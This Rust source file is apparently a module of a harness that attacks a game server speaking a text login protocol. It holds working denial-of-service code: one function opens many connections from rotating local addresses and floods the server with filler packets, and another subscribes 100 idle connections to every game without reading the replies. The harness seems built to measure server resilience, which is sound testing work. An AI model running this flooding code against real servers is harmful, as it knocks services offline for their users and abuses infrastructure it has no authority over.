//! Attacks by many connections that send without regard to the answers, each from one thread.

use super::{
    attack::{Target, address},
    client::{connect, drain},
};
use std::{
    io::{ErrorKind, Write},
    net::TcpStream,
};

/// A flood: what is sent by how many.
#[derive(Clone, Copy)]
pub struct Flood {
    /// Part of the names of its logins.
    pub name: &'static str,
    pub connections: usize,
    pub addresses: usize,
    /// Repeated until a packet is full.
    pub line: &'static str,
}

/// Bytes of a packet.
const PACKET: usize = 2048;
/// Packets of a connection in a second: one for each turn of an opponent.
const PACKETS: u32 = 10;

/// Logs in with many connections; then all of them send a packet at the same time, again and again, as far as the host
/// takes it. They read what they are sent.
pub fn flood(target: &Target<'_>, flood: Flood) {
    let packet = flood.line.repeat((PACKET / flood.line.len()).max(1));
    let enter = |n| log_in(target, address(n % flood.addresses), &format!("{}{n}", flood.name));
    let mut sockets: Vec<_> = (0..flood.connections)
        .map_while(|n| target.stands().then(|| enter(n)))
        .flatten()
        .map(|s| (s, 0))
        .collect();
    target.repeat(PACKETS, || {
        sockets.retain_mut(|(socket, from)| {
            let goes_on = drain(socket) && write(socket, packet.as_bytes(), from);
            if *from == 0 && goes_on {
                target.hit();
            }
            goes_on
        });
    });
}

/// A login in the extended mode that does not wait for its answer, and never blocks afterwards.
pub fn log_in(target: &Target<'_>, from: [u8; 4], name: &str) -> Option<TcpStream> {
    let mut socket = connect(from, target.address).ok()?;
    socket.write_all(format!("LOGIN {name} x x1\n").as_bytes()).ok()?;
    socket.set_nonblocking(true).ok()?;
    Some(socket)
}

/// Sends the rest of a packet, as far as there is room; false at the end of the connection.
pub fn write(socket: &mut TcpStream, packet: &[u8], from: &mut usize) -> bool {
    match socket.write(&packet[*from..]) {
        Ok(written) => *from = (*from + written) % packet.len(),
        Err(error) => return error.kind() == ErrorKind::WouldBlock,
    }
    true
}

/// Watches all games, asks for their boards, and reads nothing of it.
pub fn watch(target: &Target<'_>) {
    let games = list(target).unwrap_or_default();
    let ask = |game: &String| format!("%%MONITOR2ON {game}\n%%MONITORON {game}\n%%SHOW {game}\n");
    let packet = format!("{}%%WHO\n%%CHAT a\n", games.iter().map(ask).collect::<String>());
    let mut sockets: Vec<_> = (0..100)
        .filter_map(|n| log_in(target, address(n % 10), &format!("deaf{n}")))
        .map(|socket| (socket, 0))
        .collect();
    target.repeat(PACKETS, || {
        sockets.retain_mut(|(socket, from)| {
            target.hit();
            write(socket, packet.as_bytes(), from)
        });
    });
}

/// The ids of all games.
fn list(target: &Target<'_>) -> anyhow::Result<Vec<String>> {
    let mut reader = super::client::Client::login(address(0), target.address, "reader")?;
    reader.say("%%LIST")?;
    let mut games = vec![];
    loop {
        let (line, _) = reader.line()?;
        match line.strip_prefix("##[LIST] ") {
            Some("+OK") => return Ok(games),
            Some(game) => games.push(game.to_owned()),
            None => {}
        }
    }
}
